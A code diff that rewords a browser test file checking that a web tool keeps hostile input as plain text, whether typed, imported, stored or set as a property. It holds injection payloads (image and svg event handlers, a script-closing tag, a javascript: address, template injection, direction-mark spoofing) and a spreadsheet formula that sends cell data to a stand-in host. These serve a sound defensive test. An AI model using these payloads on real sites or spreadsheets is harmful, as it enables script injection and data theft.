@@ -1,15 +1,15 @@
-// Texts that would like to be markup, formulas, addresses or commands, through every way by which a text comes in.
+// Text that tries to act as markup, a formula, an address or a command, through every way text comes in.
 import { start } from "./saved-cases.js";
 import { Tool, expect, test } from "./tool.js";
 
 const TEXTS = {
   "an image": "<img src=x onerror=\"globalThis.caught='image'\">",
-  "a script that ends another": "</script><script>globalThis.caught='script'</script>",
+  "a script that closes the one around it": "</script><script>globalThis.caught='script'</script>",
   "the end of a field": "\"></textarea><svg onload=globalThis.caught='svg'>",
   "a formula": '=HYPERLINK("https://evil.example/?"&A1)',
   "an address": "javascript:globalThis.caught='address'",
   "a template": "{{constructor.constructor('globalThis.caught=1')()}} ${globalThis.caught=1}",
-  "the other direction": "\u202egnp.esac\u202c \u2066\u200f",
+  "text with direction marks": "\u202egnp.esac\u202c \u2066\u200f",
 };
 
 const file = (text) => ({
@@ -18,12 +18,12 @@ const file = (text) => ({
   review: { metric: text, floor: text, action: text, date: "2020-01-01" },
 });
 
-/** Nothing was run; what the page said or asked for is looked at when the test ends. */
+/** No script ran. The page's messages and requests are checked when the test ends. */
 async function untouched(page) {
   expect(await page.evaluate(() => globalThis.caught)).toBeUndefined();
 }
 
-/** Everything that shows texts is opened. */
+/** Opens everything that shows text. */
 async function openAll(tool, text) {
   await expect(tool.title).toHaveValue(text);
   await tool.element.getByText("Summary and owner").click();
@@ -34,12 +34,12 @@ async function openAll(tool, text) {
 }
 
 for (const [name, text] of Object.entries(TEXTS)) {
-  test(`${name} stays a text, whichever way it comes`, async ({ page, tool }) => {
+  test(`${name} stays text, whichever way it comes in`, async ({ page, tool }) => {
     const dialogs = [];
     page.on("dialog", (dialog) => dialogs.push(dialog.message()) && dialog.dismiss());
     await tool.open();
 
-    await test.step("typed, and kept", async () => {
+    await test.step("typed and saved", async () => {
       await tool.title.fill(text);
       await tool.rate("Value", "Agreed");
       await tool.way(/^Cases/).click();
@@ -61,7 +61,7 @@ for (const [name, text] of Object.entries(TEXTS)) {
       await untouched(page);
     });
 
-    await test.step("in a file that is imported", async () => {
+    await test.step("in an imported file", async () => {
       await page.goto("./");
       await tool.started();
       await tool.way(/^Cases/).click();
@@ -70,20 +70,20 @@ for (const [name, text] of Object.entries(TEXTS)) {
       await tool.press("Import or restore files");
       await (await chosen).setFiles({ name: `${text.replace(/[/\\]/g, "")}.json`, mimeType: "application/json", buffer: Buffer.from(JSON.stringify(file(text))) });
       await tool.element.getByRole("button", { name: /^Add/ }).click();
-      // Until it is stored the browser asks before the page is left.
+      // Until it is stored, the browser asks before leaving the page.
       await expect(tool.element.locator(".notice")).toContainText("One case was added.");
       await tool.element.locator(".case-name").first().click();
       await untouched(page);
     });
 
-    await test.step("in the storage", async () => {
+    await test.step("in storage", async () => {
       const { review, ...rest } = file(text);
       await start(page, tool, [{ ...rest, review, answers: "V:3" }]);
       await tool.element.locator(".case-name").last().click();
       await untouched(page);
     });
 
-    await test.step("as an object, and as a value that is none", async () => {
+    await test.step("as an object, and as an invalid value", async () => {
       await page.evaluate(() => document.body.append(document.createElement("stop-fix-scale")));
       const other = new Tool(page, page.locator("stop-fix-scale").last());
       await expect(other.verdict).toBeVisible();
@@ -97,7 +97,7 @@ for (const [name, text] of Object.entries(TEXTS)) {
         element.theme = value;
         return element.shareLink();
       }, text);
-      await expect(other.title, "no value: nothing has changed").toHaveValue(text);
+      await expect(other.title, "not a value: nothing has changed").toHaveValue(text);
       await untouched(page);
     });
     expect(dialogs).toEqual([]);
